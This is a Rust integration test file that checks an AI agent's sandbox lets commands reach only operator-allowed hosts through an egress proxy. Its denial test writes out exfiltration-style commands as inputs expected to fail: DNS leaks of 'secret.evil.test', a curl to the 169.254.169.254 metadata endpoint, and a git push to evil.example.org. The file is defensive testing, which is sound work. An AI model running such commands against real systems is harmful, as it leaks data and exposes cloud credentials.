//! The way out of commands, with the programs that people use: curl, git, npm and pip, each against a server with TLS on
//! this machine, which the operator allowed. Nothing else gets out.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use creel_kit::TelegramHome;
use nix::sys::signal::Signal;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UdpSocket};
use tokio_rustls::TlsAcceptor;
use tokio_rustls::rustls::ServerConfig;
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::pki_types::pem::PemObject;
use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer};

use crate::with;

/// Files over HTTPS, for the name `localhost`, signed by an authority of its own.
struct Site {
    port: u16,
    folder: PathBuf,
}

impl Site {
    /// `workspace`: where commands find the authority, as `ca.pem`.
    async fn start(scratch: &Path, workspace: &Path) -> Result<Self> {
        let (folder, keys) = (scratch.join("site"), scratch.join("keys"));
        for path in [&folder, &keys, &workspace.to_owned()] {
            std::fs::create_dir_all(path)?;
        }
        let make = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=creel-test-ca \
                    -keyout ca.key -out ca.pem && \
                    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=localhost -keyout key.pem -out req.pem && \
                    printf 'subjectAltName=DNS:localhost' > ext && \
                    openssl x509 -req -in req.pem -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -extfile ext -out cert.pem";
        sh(&keys, make)?;
        std::fs::copy(keys.join("ca.pem"), workspace.join("ca.pem"))?;
        let certificates =
            CertificateDer::pem_file_iter(keys.join("cert.pem"))?.collect::<Result<Vec<_>, _>>()?;
        let config = ServerConfig::builder_with_provider(Arc::new(ring::default_provider()))
            .with_safe_default_protocol_versions()?
            .with_no_client_auth()
            .with_single_cert(certificates, PrivateKeyDer::from_pem_file(keys.join("key.pem"))?)?;
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let (acceptor, served) = (TlsAcceptor::from(Arc::new(config)), folder.clone());
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (acceptor, served) = (acceptor.clone(), served.clone());
                tokio::spawn(async move {
                    let Ok(mut stream) = acceptor.accept(stream).await else { return };
                    let _gone = serve(&mut stream, &served).await;
                });
            }
        });
        Ok(Self { port, folder })
    }

    fn put(&self, path: &str, content: &[u8]) -> Result<()> {
        let file = self.folder.join(path);
        std::fs::create_dir_all(file.parent().context("a file lies in a folder")?)?;
        Ok(std::fs::write(file, content)?)
    }

    fn url(&self, path: &str) -> String {
        format!("https://localhost:{}/{path}", self.port)
    }

    /// What an operator writes so that commands reach it.
    fn allowed(&self) -> Value {
        let host = format!("localhost:{}", self.port);
        json!({
            "sandbox": { "network": "allow-list", "allow": [host], "wallSeconds": 120, "memory": "4g" },
            "egress": { "allowPrivate": [host] },
        })
    }
}

/// One request: a file, or the `index.html` of a folder.
async fn serve(stream: &mut (impl AsyncReadExt + AsyncWriteExt + Unpin), folder: &Path) -> Result<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await?);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let path = head.split(' ').nth(1).unwrap_or("/").split('?').next().unwrap_or("/");
    let index = if path.ends_with('/') { "index.html" } else { "" };
    let file = folder.join(format!("{}{index}", path.trim_start_matches('/')));
    let (status, body) = match std::fs::read(file) {
        Ok(body) => ("200 OK", body),
        Err(_) => ("404 Not Found", b"nothing here\n".to_vec()),
    };
    let kind = if index.is_empty() { "application/octet-stream" } else { "text/html" };
    let reply = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    stream.write_all(reply.as_bytes()).await?;
    stream.write_all(&body).await?;
    Ok(stream.shutdown().await?)
}

fn sh(folder: &Path, script: &str) -> Result<()> {
    let done = Command::new("sh").args(["-ec", script]).current_dir(folder).output()?;
    ensure!(done.status.success(), "{script}: {}", String::from_utf8_lossy(&done.stderr));
    Ok(())
}

/// Has the agent run a command and returns the first line of its output.
async fn run(home: &TelegramHome, said: &mut usize, command: &str) -> Result<String> {
    home.say(1, &format!("tool {command}"))?;
    *said += 1;
    let all = home.wait_said(1, *said).await?;
    Ok(all.get(*said - 1).cloned().unwrap_or_default())
}

fn log(home: &TelegramHome) -> Vec<Value> {
    let text =
        std::fs::read_to_string(home.home.path().join("logs/egress/access.ndjson")).unwrap_or_default();
    text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

#[tokio::test]
async fn curl_git_npm_and_pip_reach_what_the_operator_allowed() -> Result<()> {
    let home = TelegramHome::new().await?;
    let workspace = home.home.path().join("workspace");
    let site = Site::start(home.home.scratch(), &workspace).await?;
    site.put("hello", b"hello from outside\n")?;
    let make = "git init -q -b main src && cd src && echo one > file && git add file && \
                git -c user.name=t -c user.email=t@example.org commit -qm one && cd .. && \
                git clone -q --bare src repo.git && cd repo.git && git update-server-info";
    sh(&site.folder, make)?;
    sh(
        &site.folder,
        "mkdir -p npm pkg/package && printf '{\"name\":\"tiny\",\"version\":\"1.0.0\"}' > pkg/package/package.json && \
         tar -C pkg -czf npm/tiny-1.0.0.tgz package",
    )?;
    let tarball = site.url("npm/tiny-1.0.0.tgz");
    let tiny = json!({ "name": "tiny", "dist-tags": { "latest": "1.0.0" },
        "versions": { "1.0.0": { "name": "tiny", "version": "1.0.0", "dist": { "tarball": tarball } } } });
    site.put("npm/tiny", tiny.to_string().as_bytes())?;
    sh(
        &site.folder,
        "mkdir -p simple/tinypkg && python3 - <<'EOF'\n\
         import zipfile\n\
         name = 'simple/tinypkg/tinypkg-1.0-py3-none-any.whl'\n\
         with zipfile.ZipFile(name, 'w') as z:\n\
         \x20   z.writestr('tinypkg.py', 'VALUE = 7\\n')\n\
         \x20   z.writestr('tinypkg-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tinypkg\\nVersion: 1.0\\n')\n\
         \x20   z.writestr('tinypkg-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
         \x20   z.writestr('tinypkg-1.0.dist-info/RECORD', '')\n\
         EOF",
    )?;
    site.put(
        "simple/tinypkg/index.html",
        b"<a href=\"tinypkg-1.0-py3-none-any.whl\">tinypkg-1.0-py3-none-any.whl</a>",
    )?;
    home.home.configure(site.allowed())?;
    with(home.start().await?, async |_| {
        let mut said = 0;
        let answer = run(&home, &mut said, &format!("curl -sS --cacert ca.pem {} 2>&1", site.url("hello"))).await?;
        assert_eq!(answer, "tool said: hello from outside");
        let clone = format!("GIT_SSL_CAINFO=ca.pem git clone -q {} clone 2>&1; cat clone/file", site.url("repo.git"));
        assert_eq!(run(&home, &mut said, &clone).await?, "tool said: one");
        let npm = format!(
            "mkdir -p n && cd n && npm install --cafile=\"$OLDPWD/ca.pem\" --fetch-retries=0 --no-audit --no-fund --loglevel=error \
             --registry {} tiny >log 2>&1; node -p \"require('tiny/package.json').version\" || cat log",
            site.url("npm/")
        );
        assert_eq!(run(&home, &mut said, &npm).await?, "tool said: 1.0.0");
        let pip = format!(
            "/usr/bin/python3 -m pip install -q --disable-pip-version-check --cert ca.pem --target p --index-url {} tinypkg >plog 2>&1; \
             PYTHONPATH=p /usr/bin/python3 -c 'import tinypkg; print(tinypkg.VALUE)' || cat plog",
            site.url("simple/")
        );
        assert_eq!(run(&home, &mut said, &pip).await?, "tool said: 7");
        // The command line tells the same.
        let told = home.home.cli(&["egress", "log", "--unit", "tools:main", "--json"]).await?;
        assert!(told.success()?.lines().count() >= 5, "{}", told.stdout);
        let url = format!("localhost:{}", site.port);
        let test = home.home.cli(&["egress", "test", &url, "--unit", "tools:main"]).await?;
        assert!(test.success()?.contains("sandbox.allow"), "{}", test.stdout);
        let model = home.model.openai_url();
        let model = model.trim_start_matches("http://").split('/').next().unwrap_or_default();
        let test = home.home.cli(&["egress", "test", model, "--unit", "agent:main", "--connect", "--json"]).await?;
        assert_eq!(test.json()?["connected"], json!(model), "{}", test.stdout);
        let test = home.home.cli(&["egress", "test", "169.254.169.254:80"]).await?;
        assert_eq!(test.code, Some(1));
        assert!(test.stdout.contains("no rule of agent:main allows"), "{}", test.stdout);
        let lines = log(&home);
        let ours: Vec<_> = lines.iter().filter(|line| line["account"] == "tools:main").collect();
        assert!(ours.len() >= 5, "{lines:?}");
        for line in ours {
            assert!(line["unit"].as_str().is_some_and(|unit| unit.starts_with("tool:")), "{line}");
            assert_eq!((&line["host"], &line["rule"]), (&json!("localhost"), &json!("sandbox.allow")), "{line}");
            assert!(line["up"].as_u64() > Some(0), "{line}");
        }
        Ok(())
    })
    .await
}

#[tokio::test]
async fn nothing_but_the_listener_leads_out_of_a_command() -> Result<()> {
    let home = TelegramHome::new().await?;
    let workspace = home.home.path().join("workspace");
    let site = Site::start(home.home.scratch(), &workspace).await?;
    site.put("hello", b"hello\n")?;
    home.home.configure(site.allowed())?;
    // A server of names and another service on this machine that nobody allowed.
    let names = UdpSocket::bind("127.0.0.1:0").await?;
    let forbidden = TcpListener::bind("127.0.0.1:0").await?;
    let (dns, other) = (names.local_addr()?.port(), forbidden.local_addr()?.port());
    with(home.start().await?, async |_| {
        let mut said = 0;
        let python = |code: &str| {
            format!("/usr/bin/python3 -c 'import socket,os; {code}' 2>&1 | tail -1")
        };
        let attempts = [
            // Names: over UDP to a resolver, over the system's resolver.
            python(&format!("s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b\"secret.evil.test\",(\"127.0.0.1\",{dns})); s.settimeout(1); print(s.recv(9))")),
            python("print(socket.getaddrinfo(\"secret.evil.test\",443))"),
            // Directly, by every kind of socket.
            python(&format!("print(socket.create_connection((\"127.0.0.1\",{other}),2))")),
            python("print(socket.create_connection((\"192.0.2.1\",443),2))"),
            python("s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); print(s.sendto(b\"x\",(\"192.0.2.1\",53)))"),
            python("s=socket.socket(socket.AF_INET,socket.SOCK_RAW,1); print(s)"),
            python(&format!("s=socket.socket(); print(s.sendto(b\"x\",0x20000000,(\"127.0.0.1\",{other})))")),
        ];
        for attempt in &attempts {
            let answer = run(&home, &mut said, attempt).await?;
            let failed = ["Error", "timed out", "refused", "unreachable", "not known", "resolution"];
            assert!(failed.iter().any(|word| answer.contains(word)), "{attempt}: {answer}");
        }
        // Through the listener, but to what nobody allowed.
        for url in [
            "https://evil.example.org/".to_owned(),
            "http://169.254.169.254/latest/meta-data/".to_owned(),
            format!("http://127.0.0.2:{other}/"),
            format!("http://localhost:{other}/"),
        ] {
            let answer = run(&home, &mut said, &format!("curl -sS -o /dev/null -w '%{{http_code}} %{{http_connect}}' {url} 2>/dev/null")).await?;
            assert!(answer.contains("403") || answer.contains("400"), "{url}: {answer}");
        }
        // A push, and what git offers besides.
        let push = "git init -q x && cd x && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m x && \
                    git push https://evil.example.org/x.git HEAD:main 2>&1 | grep -c 403";
        assert_eq!(run(&home, &mut said, push).await?, "tool said: 1");
        // What is allowed still works, with the rest refused.
        let answer = run(&home, &mut said, &format!("curl -sS --cacert ca.pem {}", site.url("hello"))).await?;
        assert_eq!(answer, "tool said: hello");
        let mut buffer = [0; 64];
        let heard = tokio::time::timeout(Duration::from_millis(100), names.recv_from(&mut buffer)).await;
        assert!(heard.is_err(), "a datagram got out");
        let reached = tokio::time::timeout(Duration::from_millis(100), forbidden.accept()).await;
        assert!(reached.is_err(), "a connection got out");
        let denied: Vec<_> = log(&home).into_iter().filter(|line| line["verdict"] == "denied").collect();
        for host in ["evil.example.org", "169.254.169.254", "127.0.0.2"] {
            assert!(denied.iter().any(|line| line["host"] == host), "{host} is not in the log: {denied:?}");
        }
        Ok(())
    })
    .await
}

#[tokio::test]
async fn a_command_gets_its_way_back_when_egress_falls() -> Result<()> {
    let home = TelegramHome::new().await?;
    let workspace = home.home.path().join("workspace");
    let site = Site::start(home.home.scratch(), &workspace).await?;
    site.put("hello", b"hello again\n")?;
    home.home.configure(site.allowed())?;
    with(home.start().await?, async |creel| {
        let url = site.url("hello");
        home.say(
            1,
            &format!(
                "tool touch began; while [ ! -e go ]; do sleep 0.1; done; curl -sS --cacert ca.pem {url}"
            ),
        )?;
        creel_kit::until("the command runs", creel_kit::deadline::PATIENCE, async || {
            Ok(workspace.join("began").exists().then_some(()))
        })
        .await?;
        let killed = creel.kill("egress", Signal::SIGKILL).await?;
        creel.wait_replaced("egress", killed).await?;
        std::fs::write(workspace.join("go"), "")?;
        assert_eq!(home.wait_said(1, 1).await?, ["tool said: hello again"]);
        Ok(())
    })
    .await
}

#[tokio::test]
async fn an_open_network_is_open_to_the_outside_alone() -> Result<()> {
    let home = TelegramHome::new().await?;
    let forbidden = TcpListener::bind("127.0.0.1:0").await?;
    let port = forbidden.local_addr()?.port();
    home.home.configure(json!({ "sandbox": { "network": "open" } }))?;
    with(home.start().await?, async |_| {
        let mut said = 0;
        for host in ["127.0.0.2", "10.0.0.1", "169.254.169.254", "[::ffff:127.0.0.1]", "[fd00::1]"] {
            let get = format!("curl -gsS http://{host}:{port}/ 2>&1 | head -1");
            let answer = run(&home, &mut said, &get).await?;
            assert!(answer.contains("private address") && answer.contains("egress.allowPrivate"), "{answer}");
        }
        // A reload that closes the network holds for the next command.
        home.home.configure(json!({ "sandbox": { "network": "none" } }))?;
        creel_kit::until("the network is closed", creel_kit::deadline::PATIENCE, async || {
            let answer = run(&home, &mut said, "echo \"proxy: $HTTPS_PROXY.\"").await?;
            Ok((answer == "tool said: proxy: .").then_some(()))
        })
        .await?;
        let reached = tokio::time::timeout(Duration::from_millis(100), forbidden.accept()).await;
        assert!(reached.is_err(), "a connection got out");
        Ok(())
    })
    .await
}
